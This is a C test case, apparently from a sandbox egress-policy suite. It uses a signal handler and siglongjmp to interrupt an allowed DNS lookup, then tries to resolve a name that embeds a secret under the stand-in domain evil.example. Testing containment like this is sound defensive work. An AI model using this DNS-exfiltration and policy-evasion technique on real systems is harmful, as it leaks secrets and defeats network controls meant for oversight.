// class: network
// rule: outbound_connectivity
// policy: shared.yaml
// success: a signal handler jumps out of a lookup of an allowed name, as in libcurl after a
//   time-out, and the thread looks up another name
// proof: query
// needs: resolver
// timeout: 60
#include "attack.h"
#include <netdb.h>
#include <setjmp.h>
#include <signal.h>
#include <sys/time.h>
#include <sys/wait.h>

/* A jump may leave malloc or a lock of libc's in the middle, and the child then aborts or hangs, as
   libcurl's users know. So each jump has a child of its own, and only a child that lived says how
   it went. */
enum { CHILDREN = 12, TRIES = 20, PATIENCE_MS = 4000, NO_JUMP = 2 };
static sigjmp_buf away;
static volatile sig_atomic_t jumps;

static void jump(int number)
{
    jumps++;
    siglongjmp(away, number);
}

/* Deeper on the stack than the lookup that was left. */
__attribute__((noinline)) static int ask(const char *name)
{
    volatile char room[32768];
    struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *found = NULL;
    room[0] = room[sizeof room - 1] = 0;
    return getaddrinfo(name, "443", &hints, &found) + room[0];
}

static int attempt(void)
{
    char name[256];
    struct addrinfo *found = NULL;
    signal(SIGALRM, jump);
    for (volatile int i = 0; i < TRIES && jumps == 0; i++) {
        /* Early: libc reads a long /etc/hosts then. */
        struct itimerval soon = {.it_value = {.tv_usec = 400}}, never = {0};
        if (sigsetjmp(away, 1) != 0) break;
        setitimer(ITIMER_REAL, &soon, NULL);
        getaddrinfo("api.allowed.example", "443", NULL, &found);
        setitimer(ITIMER_REAL, &never, NULL);
    }
    signal(SIGALRM, SIG_IGN);
    if (jumps == 0) return NO_JUMP;
    snprintf(name, sizeof name, "%s.evil.example", SECRET_);
    return ask(name) == EAI_FAIL;
}

/* 0: the other name was asked for; 1: it was refused; otherwise this child proves nothing. */
static int ended(pid_t child)
{
    int status;
    for (int waited = 0; waited < PATIENCE_MS; waited += 10) {
        pid_t pid = waitpid(child, &status, WNOHANG);
        if (pid == child) return WIFEXITED(status) ? WEXITSTATUS(status) : NO_JUMP;
        usleep(10000);
    }
    kill(child, SIGKILL);
    waitpid(child, &status, 0);
    return NO_JUMP;
}

int main(void)
{
    for (int i = 0; i < CHILDREN; i++) {
        pid_t child = fork();
        if (child < 0) return stopped("fork");
        if (child == 0) _exit(attempt());
        int how = ended(child);
        if (how == 0) return reached();
        if (how == 1) return stopped("getaddrinfo");
    }
    return stopped("no jump");
}
